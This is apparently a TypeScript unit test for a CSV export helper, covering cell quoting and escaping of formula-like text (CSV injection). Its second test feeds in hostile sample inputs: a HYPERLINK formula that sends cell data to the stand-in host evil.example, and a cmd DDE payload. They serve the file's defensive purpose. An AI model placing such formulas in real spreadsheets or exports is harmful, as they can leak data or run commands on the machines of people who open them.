// The CSV exports' cells (src/api/reports.ts csvField): quoting, and text from audited sites that must not run as a
// spreadsheet formula when an export is opened (CSV injection).
import assert from 'node:assert/strict';
import { test } from 'node:test';
import { csvField } from '../../src/api/reports';

void test('plain values, quoting, empty cells', () => {
  assert.equal(csvField('About us'), 'About us');
  assert.equal(csvField('a, "b"'), '"a, ""b"""');
  assert.equal(csvField('line\nbreak'), '"line\nbreak"');
  assert.equal(csvField(' padded'), '" padded"');
  assert.equal(csvField(null), '');
  assert.equal(csvField(undefined), '');
  assert.equal(csvField(404), '404');
  assert.equal(csvField(-1), '-1', 'numbers stay numbers');
  assert.equal(csvField(true), 'true');
  assert.equal(csvField({ a: 1 }), '"{""a"":1}"');
});

void test('a cell that starts like a formula is written as text', () => {
  assert.equal(csvField('=HYPERLINK("http://evil.example/?x="&A1,"Click")'), `"'=HYPERLINK(""http://evil.example/?x=""&A1,""Click"")"`);
  assert.equal(csvField("+cmd|' /C calc'!A0"), "'+cmd|' /C calc'!A0");
  assert.equal(csvField('-2+3'), "'-2+3");
  assert.equal(csvField('@SUM(1+1)'), "'@SUM(1+1)");
  assert.equal(csvField('\t=1'), "'\t=1");
  assert.equal(csvField('\r=1'), `"'\r=1"`);
  assert.equal(csvField('a=b'), 'a=b', 'only a leading sign matters');
});
